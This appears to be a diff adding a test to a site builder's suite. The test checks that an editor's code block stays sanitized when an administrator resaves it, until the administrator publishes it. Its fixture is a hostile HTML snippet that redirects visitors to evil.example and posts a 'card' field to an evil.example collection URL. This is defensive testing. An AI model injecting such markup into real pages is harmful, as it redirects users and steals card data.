@@ -96,6 +96,27 @@ describe('a code block', () => {
     expect((await owner.get('/studio')).body).not.toContain('x()');
   });
 
+  it('stays sanitized when an administrator saves an editor’s block unchanged, until the administrator publishes it', async () => {
+    const refresh =
+      '<meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/collect" method="post"><input name="card"></form><p>Hours</p>';
+    const written = (await owner.postJson(BLOCKS, { type: 'code', source: refresh })).json<{ block: { id: string } }>().block;
+    const administrator = await Visitor.signedIn(app, 'owner@example.com');
+    const resaved = await administrator.putJson(`${BLOCKS}/${written.id}`, { source: refresh });
+    expect(resaved.json()).toMatchObject({
+      block: { id: written.id, trusted: false },
+      notice: 'Written by a contributor without code rights: shown sanitized.',
+    });
+    const guest = new Visitor(app);
+    expect((await guest.get('/studio')).body).not.toContain('evil.example');
+
+    expect((await owner.postJson(`${BLOCKS}/${written.id}/publish`, { source: refresh })).statusCode).toBe(403);
+    const stale = await administrator.postJson(`${BLOCKS}/${written.id}/publish`, { source: '<p>Hours</p>' });
+    expect(stale.statusCode).toBe(409);
+    const published = await administrator.postJson(`${BLOCKS}/${written.id}/publish`, { source: refresh });
+    expect(published.json()).toMatchObject({ block: { id: written.id, trusted: true } });
+    expect((await guest.get('/studio')).body).toContain(refresh);
+  });
+
   it('holds a product embed snippet that, pasted, renders the product block the loader mounts', async () => {
     const tote = SEED_CATALOGUE.find((product) => product.slug === 'canvas-tote')!;
     const { html } = (await owner.get(`/api/admin/products/${tote.id}/embed`)).json<{ html: string }>();
